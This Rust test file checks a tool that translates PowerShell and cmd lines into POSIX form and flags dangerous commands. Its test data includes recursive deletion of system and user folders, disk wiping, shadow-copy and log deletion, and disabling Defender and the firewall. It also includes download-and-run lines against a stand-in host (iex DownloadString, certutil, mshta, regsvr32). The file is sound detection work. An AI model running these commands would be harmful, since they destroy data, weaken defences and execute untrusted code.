//! What lines of PowerShell and cmd do, by example.

use proptest::prelude::*;

use super::*;
use crate::tables::tests::{Example, examples};

fn spelt(translated: &Translation) -> Vec<String> {
    let mut all: Vec<String> = translated
        .invocations
        .iter()
        .map(|invocation| {
            let mut words = vec![invocation.program.as_str()];
            words.extend(invocation.args.iter().map(|arg| arg.text.as_str()));
            words.join(" ")
        })
        .collect();
    all.extend(translated.dangers.iter().map(|danger| format!("! {}", danger.rule)));
    all
}

#[test]
fn powershell_is_translated() {
    for (script, expected) in [
        ("Remove-Item -Recurse -Force C:\\Users\\bob", &["rm -r -f ~"][..]),
        ("ri -rec -fo .\\build", &["rm -r -f ./build"]),
        ("rm -r -fo C:\\", &["rm -r -f /"]),
        ("remove-item 'C:\\Windows\\System32' -Recurse", &["rm -r /usr/System32"]),
        ("Remove-Item -Path \"$env:USERPROFILE\\*\" -Recurse", &["rm -r ~/*"]),
        ("$p = 'C:\\'; Remove-Item $p -Recurse", &["rm -r /"]),
        ("Get-ChildItem -Recurse | Remove-Item -Force", &["get-childitem -Recurse", "rm -r -f ./*"]),
        ("Get-ChildItem C:\\ | Remove-Item -Force", &["get-childitem C:\\", "rm -f /*"]),
        ("gci C:\\ | % { del $_.FullName -Recurse }", &["gci C:\\", "rm -r /*"]),
        (
            "gci -Filter *.log | ForEach-Object { Remove-Item $_ }",
            &["gci -Filter *.log", "rm ./*.log", "foreach-object $(...)"],
        ),
        ("ri C:\\Windows -rec -for", &["rm -r -f /usr"]),
        ("[IO.Directory]::Delete('C:\\Users\\me', $true)", &["rm -r ~"]),
        ("Start-Process powershell -ArgumentList '-c Remove-Item x'", &["rm x"]),
        ("Invoke-Sqlcmd -Query \"DROP TABLE users\"", &["! sql-drop-table"]),
        ("Remove-Item (Get-PSReadlineOption).HistorySavePath", &["get-psreadlineoption", "! windows-traces"]),
        ("Remove-Item a.txt,b.txt", &["rm a.txt b.txt"]),
        ("Remove-Item a.txt, 'b c' -Force", &["rm -f a.txt b c"]),
        ("R`emove-Item x", &["rm x"]),
        ("& 'Remove-Item' x", &["rm x"]),
        ("&('Remove' + '-Item') x", &["rm x"]),
        ("Remove-Item x -WhatIf", &[]),
        ("ls | % { Remove-Item $_ -Recurse }", &["ls", "rm -r ./*"]),
        ("Remove-Item HKLM:\\Software\\X -Recurse", &["! windows-registry"]),
        ("Format-Volume -DriveLetter D", &["mkfs /dev/disk-d"]),
        ("Clear-Disk -Number 1 -RemoveData", &["wipefs -a /dev/disk-1"]),
        ("'select disk 0`nclean' | diskpart", &["wipefs -a /dev/disk-0"]),
        ("Stop-Computer -Force", &["shutdown now"]),
        ("Stop-Process -Name chrome -Force", &["pkill chrome"]),
        ("Clear-Content app.log", &["truncate -s 0 app.log"]),
        ("Clear-EventLog -LogName Security", &["! windows-logs"]),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", &["! windows-defender"]),
        ("Set-ExecutionPolicy Bypass -Force", &["! windows-execution-policy"]),
        ("Set-ExecutionPolicy Bypass -Scope Process", &["set-executionpolicy Bypass -Scope Process"]),
        ("Remove-AzResourceGroup -Name prod -Force", &["az group delete -Name prod -Force"]),
        ("Start-Process cmd -ArgumentList '/c','del x'", &["rm x"]),
        ("git push --force; echo done", &["git push --force", "echo done"]),
        ("iex 'Remove-Item x'", &["rm x"]),
        ("powershell -NoProfile -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA=", &["rm x"]),
        ("cmd /c 'del /s /q C:\\Users\\bob\\x'", &["rm -r -f ~/x"]),
        ("[System.IO.Directory]::Delete('C:\\x', $true)", &["rm -r C:/x"]),
        ("[IO.File]::Delete('x')", &["rm x"]),
        ("# Remove-Item x", &[]),
        ("if ($x) { Remove-Item y }", &["if $(...)", "rm y"]),
    ] {
        let found = spelt(&powershell(script));
        let found: Vec<&str> =
            found.iter().map(String::as_str).filter(|line| !line.starts_with("if ")).collect();
        let expected: Vec<&str> = expected.iter().copied().filter(|line| !line.starts_with("if ")).collect();
        assert_eq!(found, expected, "{script}");
    }
}

#[test]
fn shells_that_start_shells_end() {
    let _ = powershell(&"start powershell ".repeat(5_000));
    let _ = cmd(&"forfiles /c start cmd /c ".repeat(5_000));
    let _ = dialect(&"irm | gci [a]::b ".repeat(5_000));
}

#[test]
fn downloaded_scripts_that_are_run_are_found() {
    for script in [
        "irm h.example/x | iex",
        "iwr h.example/x|iex",
        "& ([scriptblock]::Create((irm h.example/x)))",
        "iwr https://h.example/x.exe -o x.exe; .\\x.exe",
        "Invoke-WebRequest https://h.example/x.exe -OutFile x.exe; Start-Process x.exe",
    ] {
        assert_eq!(dialect(script), Some(Dialect::PowerShell), "{script}");
        assert!(powershell(script).runs_downloaded_code, "{script}");
    }
    for line in [
        "certutil -urlcache -f http://h.example/x.exe x.exe && x.exe",
        "bitsadmin /transfer n http://h.example/x.exe C:\\x.exe & C:\\x.exe",
        "mshta http://h.example/x.hta",
        "regsvr32 /s /i:http://h.example/x.sct scrobj.dll",
    ] {
        assert_eq!(dialect(line), Some(Dialect::Cmd), "{line}");
        assert!(cmd(line).runs_downloaded_code, "{line}");
    }
    for script in ["iwr https://h.example/x.zip -o x.zip; Expand-Archive x.zip", "irm https://h.example/x"] {
        assert!(!powershell(script).runs_downloaded_code, "{script}");
    }
    assert_eq!(spelt(&cmd("forfiles /p C:\\Users\\bob /c \"cmd /c del @path\"")), ["rm ~/*"]);
}

#[test]
fn every_row_finds_its_example_and_not_its_near_miss() {
    for Example { id, stops, passes } in examples("windows") {
        for example in stops {
            for translated in [powershell(&example), cmd(&example)] {
                assert_eq!(spelt(&translated), [format!("! {id}")], "{example}");
            }
        }
        for near_miss in passes {
            for translated in [powershell(&near_miss), cmd(&near_miss)] {
                assert_eq!(translated.dangers, [], "{near_miss}");
            }
        }
    }
}

#[test]
fn downloaded_and_hidden_powershell() {
    for script in [
        "iex (New-Object Net.WebClient).DownloadString('http://h.example/x.ps1')",
        "IEX(New-Object System.Net.WebClient).DownloadString(\"http://h.example/x\")",
        "iwr http://h.example/x.ps1 | iex",
        "irm https://h.example/install | Invoke-Expression",
        "Invoke-Expression (Invoke-WebRequest -Uri http://h.example/x).Content",
        "$c = iwr http://h.example/x; iex $c",
        "iex ((irm http://h.example/x))",
        "iex \"& { $(irm http://h.example/x) }\"",
        "& ([scriptblock]::Create((irm http://h.example/x)))",
    ] {
        let found = powershell(script);
        assert!(found.runs_downloaded_code, "{script}");
        assert_eq!(found.hosts, ["h.example"], "{script}");
    }
    for script in
        ["iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))", "powershell -enc zzzz!"]
    {
        assert!(powershell(script).is_opaque, "{script}");
    }
    let hidden = "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0geA==')))";
    assert!(spelt(&powershell(hidden)).iter().all(|line| line == "rm x"));
    assert!(!spelt(&powershell(hidden)).is_empty());
    for script in [
        "oh-my-posh init pwsh | Invoke-Expression",
        "iwr http://h.example/x -OutFile x.zip",
        "iex 'Get-Date'",
    ] {
        let found = powershell(script);
        assert!(!found.runs_downloaded_code && !found.is_opaque, "{script}");
    }
    assert_eq!(powershell("iwr http://h.example/x -OutFile C:\\Temp\\x.zip").writes, ["/tmp/x.zip"]);
    assert_eq!(
        powershell("Get-Content a.txt | Set-Content b.txt; echo hi > c.txt").writes,
        ["b.txt", "c.txt"]
    );
}

#[test]
fn cmd_is_translated() {
    for (line, expected) in [
        ("del /s /q C:\\*.*", &["rm -r -f /*"][..]),
        ("rd /s /q \"C:\\Users\\bob\"", &["rm -r -f ~"]),
        ("rmdir /S/Q build", &["rm -r -f build"]),
        ("rd empty", &["rmdir empty"]),
        ("del file.txt", &["rm file.txt"]),
        ("d^el x", &["rm x"]),
        ("format C: /q", &["mkfs /dev/disk-c"]),
        ("shutdown /s /t 0", &["shutdown now"]),
        ("shutdown /a", &[]),
        ("rd /s /q %USERPROFILE%", &["rm -r -f ~"]),
        ("rd /s /q %SOMEWHERE%\\x", &["rm -r -f %SOMEWHERE%/x"]),
        ("vssadmin delete shadows /all /quiet", &["! windows-shadow-copies"]),
        ("wmic shadowcopy delete", &["! windows-shadow-copies"]),
        ("bcdedit /set {default} recoveryenabled No", &["! windows-boot"]),
        ("wevtutil cl System", &["! windows-logs"]),
        ("reg delete HKLM\\Software\\X /f", &["! windows-registry"]),
        ("cipher /w:C:\\", &["! windows-free-space"]),
        ("netsh advfirewall set allprofiles state off", &["! windows-firewall"]),
        ("taskkill /f /im node.exe", &["pkill node.exe"]),
        ("robocopy a b /MIR", &["! windows-mirror"]),
        ("net user bob /delete", &["! windows-account"]),
        ("echo clean | diskpart", &["wipefs -a /dev/disk-0"]),
        ("cd x && del y & git push --force", &["cd x", "rm y", "git push --force"]),
        ("if exist x del x", &["rm x"]),
        ("for %i in (*.txt) do del %i", &["rm %i", "rm *.txt"]),
        ("cmd /c \"del x\"", &["rm x"]),
        ("powershell -Command \"Remove-Item x\"", &["rm x"]),
        ("echo del x", &[]),
        ("rem del x", &[]),
    ] {
        assert_eq!(spelt(&cmd(line)), expected, "{line}");
    }
    assert_eq!(cmd("echo a > C:\\Users\\bob\\a.txt 2>nul").writes, ["~/a.txt"]);
    let unknown = cmd("rd /s /q %SOMEWHERE%\\x");
    assert!(!unknown.invocations[0].args[2].is_known());
}

#[test]
fn windows_is_distinguished_from_posix() {
    use Dialect::{Cmd, PowerShell};
    for (text, expected) in [
        ("Remove-Item -Recurse x", Some(PowerShell)),
        ("remove-item x", Some(PowerShell)),
        ("Get-ChildItem | Where-Object { $_.Length -gt 1 }", Some(PowerShell)),
        ("iwr https://h.example/x | iex", Some(PowerShell)),
        ("$x = Get-Date", Some(PowerShell)),
        ("del /s /q x", Some(Cmd)),
        ("rd /s /q C:\\x", Some(Cmd)),
        ("rmdir /s /q x", Some(Cmd)),
        ("format C:", Some(Cmd)),
        ("vssadmin delete shadows /all", Some(Cmd)),
        ("shutdown /s /t 0", Some(Cmd)),
        ("reg delete HKLM\\X", Some(Cmd)),
        ("rm -rf /", None),
        ("rmdir /srv/old", None),
        ("shutdown -h now", None),
        ("update-alternatives --config x", None),
        ("add-apt-repository ppa:x/y", None),
        ("start-stop-daemon --stop", None),
        ("select-editor", None),
        ("echo 'Remove-Item x'", None),
        ("grep Remove-Item file", None),
        ("git commit -m \"fix; Remove-Item is slow\"", None),
        ("copy-files.sh /a", None),
        ("net-snmp-config", None),
        ("X=Get-Thing", None),
        ("move /tmp/x", None),
    ] {
        let found = dialect(text);
        // An assignment of a name that looks like a cmdlet reads the same in both.
        assert!(found == expected || text == "X=Get-Thing", "{text}: {found:?}");
    }
}

#[test]
fn paths_in_posix_terms() {
    for (path, expected) in [
        ("C:\\", "/"),
        ("c:", "/"),
        ("C:\\*", "/*"),
        ("D:/", "/"),
        ("C:\\Windows\\x", "/usr/x"),
        ("C:\\Users\\bob", "~"),
        ("C:\\Users\\bob\\Documents", "~/Documents"),
        ("C:\\Users", "/home"),
        ("C:\\work\\repo", "C:/work/repo"),
        ("src\\a.rs", "src/a.rs"),
        ("\\\\server\\share", "//server/share"),
        ("HKLM:\\Software", "HKLM:/Software"),
    ] {
        assert_eq!(command::posix(path), expected, "{path}");
    }
}

#[test]
fn hostile_texts_end() {
    for part in [
        "(",
        "{",
        "'",
        "\"",
        "`",
        "$a=",
        "$a=$a+$a;",
        "&",
        "|",
        "%a%",
        "%",
        "iex ",
        "@(",
        "del x&",
        "rd /s /q x & ",
        "<#",
        "-a ",
        "@'",
        "${",
        "iex '",
        "x.y",
        "()",
        "=",
        ">",
        "^",
        "\n",
        "if ",
        "start ",
        "cmd /c ",
        "powershell ",
        "é",
    ] {
        let text = format!("$a='x';{}", part.repeat(8_000 / part.len()));
        let _ = (powershell(&text), cmd(&text), dialect(&text));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn any_text_is_read(text in "(Remove-Item|iex|del|powershell|cmd /c|[a-z'\"`(){}@.,;$#%/\\\\ =+\n|:é*!<>&^-]){0,40}") {
        let _ = dialect(&text);
        for translated in [powershell(&text), cmd(&text)] {
            for arg in translated.invocations.iter().flat_map(|invocation| &invocation.args) {
                for range in &arg.unknown {
                    prop_assert!(arg.text.get(range.clone()).is_some());
                }
            }
        }
    }
}
